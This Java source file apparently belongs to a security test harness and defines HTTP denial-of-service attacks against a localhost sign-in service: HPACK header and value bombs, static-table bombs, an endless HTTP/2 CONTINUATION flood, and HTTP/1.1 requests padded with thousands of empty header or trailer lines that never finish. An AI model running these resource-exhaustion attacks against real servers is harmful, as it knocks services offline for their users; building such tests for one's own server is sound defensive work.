import java.io.IOException;
import java.time.Duration;
import java.util.List;
import java.util.function.Supplier;

/// Attacks with header fields: many in few bytes, and requests that stay unfinished, so that the
/// server goes on holding them.
final class HeaderAttacks {
  static final List<Attack> ALL =
      List.of(
          // 400 fields for a byte each, 33 octets as HTTP/2 counts them
          bombs("h2-header-bombs", () -> Hpack.post("/v1/sign-in"), "", 400),
          // few fields, of a large value for a byte each
          bombs("h2-value-bombs", () -> Hpack.post("/v1/sign-in"), "v".repeat(3900), 4),
          // requests whose bodies are not waited for
          bombs("h2-get-bombs", () -> Hpack.get("/v1/me"), "", 400),
          staticBombs(),
          new Attack("h2-continuation", Wire.Protocol.HTTP_2, 20, HeaderAttacks::continuation)
              .restless(),
          new Attack("h1-empty-headers", Wire.Protocol.PLAIN, 700, HeaderAttacks::emptyHeaders),
          new Attack("h1-trailers", Wire.Protocol.PLAIN, 700, HeaderAttacks::trailers));

  /// Open requests on a connection; the server allows 100.
  private static final int STREAMS = 99;

  private static final int MOST_LINES = 4070; // of the 16 KiB that a head may have
  private static final Duration REFILL = Duration.ofSeconds(5);

  private HeaderAttacks() {}

  /// A field that goes into the dynamic table once, and is then named many times in each request.
  private static Attack bombs(String name, Supplier<Hpack> request, String value, int times) {
    var first = request.get().inserted("a", value).repeated(Hpack.NEWEST, times - 1).bytes();
    var next = request.get().repeated(Hpack.NEWEST, times).bytes();
    return new Attack(name, Wire.Protocol.HTTP_2, 200, wire -> hold(wire, first, next));
  }

  /// Without the dynamic table: a field of the static one, of 35 octets.
  private static Attack staticBombs() {
    var block = Hpack.post("/v1/sign-in").repeated(Hpack.AGE, 400).bytes();
    return new Attack(
        "h2-static-bombs", Wire.Protocol.HTTP_2, 200, wire -> hold(wire, block, block));
  }

  /// As many open requests as there may be, and new ones for those that the server gives up.
  private static void hold(Wire wire, byte[] first, byte[] next)
      throws IOException, InterruptedException {
    var http2 = new Http2(wire, Http2.WINDOW).reading();
    http2.begin(Http2.END_HEADERS, first);
    while (true) {
      while (http2.open() < STREAMS) {
        http2.begin(Http2.END_HEADERS, next);
      }
      http2.flush();
      http2.pause(REFILL);
    }
  }

  /// A head that never ends: of frames with one field, and of empty ones.
  private static void continuation(Wire wire) throws IOException, InterruptedException {
    var http2 = new Http2(wire, Http2.WINDOW).reading();
    int stream = http2.begin(0, Hpack.get("/v1/me").inserted("a", "").bytes());
    for (int i = 0; true; i++) {
      byte[] fragment = i % 2 == 0 ? new byte[0] : new Hpack().indexed(Hpack.NEWEST).bytes();
      http2.frame(Http2.CONTINUATION, 0, stream, fragment);
      if (i % 100 == 99) {
        http2.flush();
        http2.pause(Duration.ofMillis(10));
      }
    }
  }

  private static void emptyHeaders(Wire wire) throws IOException {
    var head =
        "POST /v1/sign-in HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
            + "Content-Length: 60000\r\n";
    wire.write(head + "a:\r\n".repeat(MOST_LINES - head.length() / 4) + "\r\n{");
    wire.drain();
  }

  private static void trailers(Wire wire) throws IOException {
    wire.write(
        "POST /v1/sign-in HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
            + "Transfer-Encoding: chunked\r\n\r\n1\r\n{\r\n0\r\n"
            + "a:\r\n".repeat(MOST_LINES));
    wire.drain();
  }
}
